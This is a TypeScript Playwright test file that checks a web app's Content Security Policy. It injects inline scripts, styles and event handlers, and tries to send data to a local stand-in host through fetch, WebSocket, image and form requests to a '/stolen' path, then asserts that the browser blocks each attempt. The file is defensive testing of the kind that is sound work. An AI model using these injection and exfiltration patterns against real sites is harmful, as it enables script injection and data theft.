// What the browser itself keeps out: code and styles that somebody slipped into the page, and data on its way elsewhere.
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { logInByForm, openAccount } from './support/accounts.ts';
import { sharedServer } from './support/server.ts';

const server = sharedServer;

test(
  'the policy lets nothing inline and nothing from elsewhere be part of the page',
  { tag: '@gate' },
  async ({ page }) => {
    const answer = await page.goto(server.url);
    const policy = answer?.headers()['content-security-policy'] ?? '';
    expect(policy).toContain("default-src 'none'");
    expect(policy).not.toMatch(/unsafe|\*|https?:/);
  },
);

test('the marks of the coins come from the own server, and are drawn', async ({ page }) => {
  await page.goto(`${server.url}/#/quotation`);
  const marks = page.locator('main svg > use');
  await expect(marks.first()).toBeAttached();
  const widths = () =>
    marks.evaluateAll((all) => all.map((mark) => Math.round((mark as SVGGraphicsElement).getBBox().width)));
  await expect.poll(async () => new Set(await widths())).toEqual(new Set([32]));
});

test('code and styles that come within the page itself stay dead', { tag: '@gate' }, async ({ page }) => {
  await page.route(`${server.url}/`, async (route) => {
    const answer = await route.fetch();
    const slippedIn = `<script>document.documentElement.dataset.slippedIn = '1'</script>
      <style>body { visibility: hidden }</style><img src="data:," onerror="document.documentElement.dataset.slippedIn = '2'">`;
    await route.fulfill({ response: answer, body: (await answer.text()).replace('<body>', `<body>${slippedIn}`) });
  });
  const stopped: string[] = [];
  page.on('console', (message) => stopped.push(message.text()));
  await page.goto(`${server.url}/`);
  await expect(page.getByRole('link', { name: 'Open an account' }).first()).toBeVisible();
  for (const what of [/inline script/, /inline style/, /inline event handler/])
    expect(stopped.filter((text) => what.test(text) && text.includes('Content Security Policy'))).toHaveLength(1);
  expect(await page.evaluate(() => document.documentElement.dataset['slippedIn'])).toBe(undefined);
});

test('slipped-in code does not run, a slipped-in style does not show, and data does not leave', async ({ page }) => {
  await logInByForm(page, await openAccount(server.url), { url: server.url });
  const reached: (string | undefined)[] = [];
  const elsewhere = createServer(({ url }, reply) => {
    reached.push(url);
    reply.end();
  }).listen(0, '127.0.0.1');
  elsewhere.on('upgrade', ({ url }, socket) => {
    reached.push(url);
    socket.destroy();
  });
  await once(elsewhere, 'listening');
  const host = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  expect(await page.evaluate(tryToBreakIn, host)).toEqual({
    'an attribute that is code': 'require-trusted-types-for',
    'a text that becomes code': 'require-trusted-types-for',
    'a text that becomes a part of the page': 'require-trusted-types-for',
    'a script between the others': 'require-trusted-types-for',
    'a style between the others': 'style-src-elem',
    'a question to another host': 'connect-src',
    'a socket to another host': 'connect-src',
    'a picture of another host': 'img-src',
    'a form that posts elsewhere': 'form-action',
  });
  const after = await page.evaluate(() => ({ ...document.body.dataset, display: getComputedStyle(document.body).display })); // oxfmt-ignore
  expect(after).toEqual({ display: 'block' });
  elsewhere.closeAllConnections();
  elsewhere.close();
  expect(reached).toEqual([]);
});

/** Runs in the page: what of the policy stopped each attempt; "nothing" if it did not break it. */
async function tryToBreakIn(host: string): Promise<Record<string, string>> {
  const code = 'document.body.dataset.slippedIn = "1"';
  const place = document.body.appendChild(document.createElement('div'));
  const attempts: Record<string, () => unknown> = {
    'an attribute that is code': () => {
      place.setAttribute('onclick', code);
      place.click();
    },
    // oxlint-disable-next-line typescript/no-implied-eval -- that it does not work is what is tested
    'a text that becomes code': () => setTimeout(code),
    'a text that becomes a part of the page': () => (place.innerHTML = '<b>slipped in</b>'),
    'a script between the others': () => {
      const script = document.createElement('script');
      script.append(code);
      place.append(script);
    },
    'a style between the others': () => {
      const style = document.createElement('style');
      style.append('body { display: none }');
      place.append(style);
    },
    'a question to another host': () => fetch(`http://${host}/stolen`).catch(() => undefined),
    'a socket to another host': () => new WebSocket(`ws://${host}/stolen`),
    'a picture of another host': () => (new Image().src = `http://${host}/stolen.png`),
    'a form that posts elsewhere': () => {
      const form = place.appendChild(document.createElement('form'));
      form.action = `http://${host}/stolen`;
      form.submit();
    },
  };
  const stoppedBy: Record<string, string> = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    const stopped = new Promise<string>((resolve) => {
      const told = ({ effectiveDirective }: SecurityPolicyViolationEvent): void => resolve(effectiveDirective);
      document.addEventListener('securitypolicyviolation', told, { once: true });
      setTimeout(() => resolve('nothing'), 2_000);
    });
    try {
      await attempt();
    } catch {
      // Refused at once, and told as well.
    }
    stoppedBy[name] = await stopped;
  }
  return stoppedBy;
}
